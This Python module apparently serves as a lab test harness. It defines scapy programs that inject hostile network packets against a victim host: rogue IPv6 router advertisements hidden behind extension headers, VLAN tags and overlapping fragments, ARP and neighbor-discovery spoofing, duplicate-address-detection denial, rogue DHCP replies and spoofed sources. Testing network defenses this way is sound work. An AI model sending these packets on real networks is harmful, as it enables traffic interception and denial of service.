"""Packets that no tool makes, by scapy: each program is what it does beside `HEAD`."""

from .wiring import ADDRESSES, GATEWAY, LOCALS, MACS

HEAD = f"""
mac, own, local = {MACS["attacker"]!r}, {ADDRESSES["attacker"]!r}, {LOCALS["attacker"]!r}
victim, victim_local, victim_mac = {ADDRESSES["victim"]!r}, {LOCALS["victim"]!r}, {MACS["victim"]!r}
far, far_mac, gateway = {ADDRESSES["far"]!r}, {MACS["far"]!r}, {GATEWAY!r}
all_mac, all_nodes = '33:33:00:00:00:01', 'ff02::1'
other_mac = '02:00:00:00:09:09'

def out(*frames):
    for frame in frames:
        sendp(frame, iface='eth0')

def group(src=local, hlim=255, **more):
    return Ether(src=mac, dst=all_mac)/IPv6(src=src, dst=all_nodes, hlim=hlim, **more)

def one(src=local, hlim=255, dst=None, **more):
    return Ether(src=mac, dst=victim_mac)/IPv6(src=src, dst=dst or victim_local, hlim=hlim, **more)

def advert(lifetime=1800):
    return (ICMPv6ND_RA(routerlifetime=lifetime)/ICMPv6NDOptPrefixInfo(prefixlen=64, prefix='2001:db8:bad::')
            /ICMPv6NDOptSrcLLAddr(lladdr=mac))

def checked(ip, message):
    # The message's bytes with its checksum, to be cut into pieces.
    return bytes(IPv6(src=ip[IPv6].src, dst=ip[IPv6].dst)/message)[40:]

def piece(start, offset, more, nh, data, number=7):
    return start/IPv6ExtHdrFragment(nh=nh, offset=offset, m=more, id=number)/Raw(data)
"""

PROGRAMS = {
    "unicast_advert": "out(one()/advert(), one(dst=victim)/advert(), one()/advert(0))",
    "adverts_behind_headers": """
pad = IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(4))])
out(group()/IPv6ExtHdrHopByHop(options=[RouterAlert()])/advert(), group()/pad/advert(), group()/pad/pad/pad/pad/advert(),
    group()/IPv6ExtHdrRouting(addresses=[])/advert(), group()/IPv6ExtHdrFragment()/advert(),
    group()/IPv6ExtHdrFragment()/IPv6ExtHdrFragment()/advert(), group()/AH(spi=1, seq=1)/advert())
""",
    "tagged_advert": """
body = IPv6(src=local, dst=all_nodes, hlim=255)/advert()
for tags in (Dot1Q(vlan=0), Dot1Q(vlan=0)/Dot1Q(vlan=0), Dot1AD(vlan=0)/Dot1Q(vlan=0), Dot1Q(vlan=0)/Dot1Q(vlan=0)/Dot1Q(vlan=0)):
    out(Ether(src=mac, dst=all_mac)/tags/body)
""",
    "advert_in_second_fragment": """
start = group()
message = checked(start, advert())
options = bytes([58, 15]) + bytes([1, 118]) + bytes(118) + bytes([1, 2, 0, 0])
out(piece(start, 0, 1, 60, options[:64]), piece(start, 8, 0, 60, options[64:] + message))
out(piece(start, 8, 0, 60, options[64:] + message, 8), piece(start, 0, 1, 60, options[:64], 8))
""",
    "advert_in_overlapping_fragments": """
for start in (group(), one(), group(hlim=64), one(hlim=64)):
    message, echo = checked(start, advert()), checked(start, ICMPv6EchoRequest(data=bytes(64)))
    for number, (first, second) in enumerate([(echo, message), (message, echo)]):
        out(piece(start, 0, 1, 58, first[:24], number), piece(start, 0, 1, 58, second[:24], number),
            piece(start, 3, 0, 58, message[24:], number))
""",
    "carried_advert": """
out(group()/IPv6(src=local, dst=all_nodes, hlim=255)/advert(), one(dst=victim)/IPv6(src=local, dst=victim, hlim=255)/advert(),
    group(nh=135)/Raw(bytes([58, 0, 0, 0, 0, 0, 0, 0]) + checked(group(), advert())))
""",
    "redirect": """
rd = ICMPv6ND_Redirect(tgt=local, dst=far)/ICMPv6NDOptDstLLAddr(lladdr=mac)
out(one()/rd, one(dst=victim)/rd, group()/rd, one()/IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(4))])/rd)
code = ICMPv6ND_Redirect(code=3, tgt=local, dst=far)
out(one()/code)
""",
    "adverts_for_others": """
for target in (gateway, 'fe80::1', far, victim):
    na = ICMPv6ND_NA(R=0, S=0, O=1, tgt=target)/ICMPv6NDOptDstLLAddr(lladdr=mac)
    out(group()/na, one()/na, one(src=own, dst=victim)/ICMPv6ND_NA(R=1, S=1, O=1, tgt=target))
""",
    "advert_with_anothers_mac": """
for target in (own, local):
    na = ICMPv6ND_NA(R=0, S=1, O=1, tgt=target)
    out(one()/na/ICMPv6NDOptDstLLAddr(lladdr=far_mac), one()/na/ICMPv6NDOptDstLLAddr(lladdr=other_mac),
        group()/na/ICMPv6NDOptDstLLAddr(lladdr=far_mac))
""",
    "solicit_with_anothers_mac": """
for src in (own, local):
    ns = ICMPv6ND_NS(tgt=victim)/ICMPv6NDOptSrcLLAddr(lladdr=far_mac)
    out(one(src=src)/ns, group(src=src)/ns, one(src=src, dst=victim)/ns, one(src=far)/ns,
        one(src=src)/ICMPv6ND_NS(tgt=victim_local)/ICMPv6NDOptSrcLLAddr(lladdr=other_mac))
""",
    "malformed_discovery": """
mine = ICMPv6NDOptSrcLLAddr(lladdr=mac)
out(one()/ICMPv6ND_NS(code=1, tgt=victim)/mine, one(hlim=64)/ICMPv6ND_NS(tgt=victim)/mine,
    one()/ICMPv6ND_NS(tgt=victim)/mine/mine, one()/ICMPv6ND_NS(tgt=victim)/mine/ICMPv6NDOptSrcLLAddr(lladdr=far_mac),
    one()/ICMPv6ND_NS(tgt='::')/mine, one()/ICMPv6ND_RS(code=1)/mine, group(hlim=64)/ICMPv6ND_RS()/mine,
    one(hlim=64)/ICMPv6ND_NA(tgt=own, S=1), one()/ICMPv6ND_NA(code=1, tgt=own, S=1))
""",
    "discovery_in_fragments": """
for message in (ICMPv6ND_NA(R=0, S=0, O=1, tgt=far)/ICMPv6NDOptDstLLAddr(lladdr=mac),
                ICMPv6ND_NS(tgt=victim)/ICMPv6NDOptSrcLLAddr(lladdr=far_mac)):
    for start in (group(), one()):
        data = checked(start, message)
        out(start/IPv6ExtHdrFragment(nh=58)/Raw(data), piece(start, 0, 1, 58, data[:8]), piece(start, 1, 0, 58, data[8:]),
            piece(start, 0, 1, 58, data[:24], 9), piece(start, 3, 0, 58, data[24:], 9))
""",
    "arp_lies": """
for op in (1, 2):
    for sha, psrc in ((mac, '10.1.0.1'), (far_mac, '10.1.0.66'), (mac, '10.1.0.12'), (other_mac, '10.1.0.12')):
        for dst in (victim_mac, 'ff:ff:ff:ff:ff:ff'):
            out(Ether(src=mac, dst=dst)/ARP(op=op, hwsrc=sha, psrc=psrc, hwdst=victim_mac, pdst='10.1.0.11'))
""",
    "objections_to_dad": """
for n in range(100):
    for target in ('2001:db8:a::d00d', victim):
        na = ICMPv6ND_NA(R=0, S=0, O=1, tgt=target)/ICMPv6NDOptDstLLAddr(lladdr=mac)
        out(group(src=target)/na, group()/na)
    time.sleep(0.01)
""",
    "dhcp6_answers": """
from scapy.layers.dhcp6 import *
for kind in (DHCP6_Advertise, DHCP6_Reply, DHCP6_Reconf):
    for sport in (547, 1547):
        for to in (victim_local, victim):
            out(one(src=own if to == victim else local, hlim=64, dst=to)/UDP(sport=sport, dport=546)/kind()
                /DHCP6OptServerId(duid=DUID_LL(lladdr=mac))/DHCP6OptDNSServers(dnsservers=[own]))
    out(group(hlim=1)/UDP(sport=547, dport=546)/kind())
""",
    "dhcp6_answers_in_fragments": """
data = bytes(IPv6(src=local, dst=victim_local)/UDP(sport=547, dport=546)/Raw(bytes([7]) + bytes(200)))[40:]
for hop_limit in (1, 64, 255):
    start = one(hlim=hop_limit)
    out(piece(start, 0, 1, 17, data[:64]), piece(start, 8, 0, 17, data[64:]))
    out(start/IPv6ExtHdrFragment(nh=17)/Raw(data))
    out(piece(start, 0, 1, 60, bytes([17, 0, 1, 4, 0, 0, 0, 0]), 9), piece(start, 1, 0, 60, data, 9))
""",
    "dhcp4_answers": """
for dst, to in (('ff:ff:ff:ff:ff:ff', '255.255.255.255'), (victim_mac, '10.1.0.11')):
    for kind in ('offer', 'ack', 'nak'):
        bootp = BOOTP(op=2, yiaddr='10.1.0.99', chaddr=bytes.fromhex(victim_mac.replace(':', '')))
        options = DHCP(options=[('message-type', kind), ('server_id', '10.1.0.66'), ('router', '10.1.0.66'), 'end'])
        whole = IP(src='10.1.0.66', dst=to)/UDP(sport=67, dport=68)/bootp/options
        out(Ether(src=mac, dst=dst)/whole)
        if to == '255.255.255.255':
            out(*(Ether(src=mac, dst=dst)/part for part in fragment(whole, 64)))
""",
    "queries": """
alert = IPv6ExtHdrHopByHop(options=[RouterAlert()])
out(group(hlim=1)/alert/ICMPv6MLQuery(), group(hlim=1)/ICMPv6MLQuery(), group(hlim=1)/alert/ICMPv6MLQuery2(),
    one(hlim=1)/alert/ICMPv6MLQuery(), one(hlim=1, dst=victim)/ICMPv6MLQuery(mladdr='ff05::99'),
    group(hlim=1, nh=103)/Raw(bytes([0x20, 0, 0, 0]) + bytes(12)))
""",
    "truncated_first_fragments": """
for hop_limit in (64, 255):
    for to in (victim, victim_local):
        start = one(src=own if to == victim else local, hlim=hop_limit, dst=to)
        for number, nh in enumerate((6, 17, 58)):
            out(piece(start, 0, 1, nh, b'', number), piece(start, 0, 1, nh, bytes([0, 0, 0, 0, 0, 0, 0, 0]), 10 + number))
""",
    "mobility_and_tunnels": """
inner = IPv6(src=far, dst=victim, hlim=255)/ICMPv6ND_NA(tgt=far)/ICMPv6NDOptDstLLAddr(lladdr=mac)
out(one(src=own, dst=victim)/inner, one(src=own, dst=victim, nh=135)/Raw(bytes([59, 0, 0, 0, 0, 0, 0, 0])))
""",
    "spoofed_sources": """
mark = UDP(sport=7, dport=7)/Raw(b'spoofed!')
for src in (far, gateway, 'fe80::1', '2001:db8:77::1', '::', '::1', 'ff02::1', 'fe80::bad'):
    out(Ether(src=mac, dst=victim_mac)/IPv6(src=src, dst=victim)/mark, Ether(src=mac, dst=all_mac)/IPv6(src=src, dst=all_nodes)/mark)
for src in ('10.1.0.12', '10.1.0.1', '192.0.2.1', '0.0.0.0', '255.255.255.255', '127.0.0.1'):
    out(Ether(src=mac, dst=victim_mac)/IP(src=src, dst='10.1.0.11')/mark, Ether(src=mac, dst='ff:ff:ff:ff:ff:ff')/IP(src=src, dst='255.255.255.255')/mark)
for hw in (far_mac, other_mac, '02:53:00:00:00:01', '00:00:00:00:00:00', 'ff:ff:ff:ff:ff:ff', '33:33:00:00:00:01'):
    out(Ether(src=hw, dst=victim_mac)/IPv6(src=own, dst=victim)/mark, Ether(src=hw, dst=all_mac)/IPv6(src=own, dst=all_nodes)/mark)
for kind in (0x88cc, 0x8847, 0x0805, 0x8863, 0x9000):
    out(Ether(src=mac, dst=victim_mac, type=kind)/Raw(bytes(50)), Ether(src=mac, dst='ff:ff:ff:ff:ff:ff', type=kind)/Raw(bytes(50)))
out(Dot3(src=mac, dst=victim_mac)/LLC(dsap=0xaa, ssap=0xaa, ctrl=3)/SNAP(OUI=0, code=0x86dd)/IPv6(src=far, dst=victim)/mark)
""",
}


def program(name):
    """A program by its name."""
    return HEAD + PROGRAMS[name]
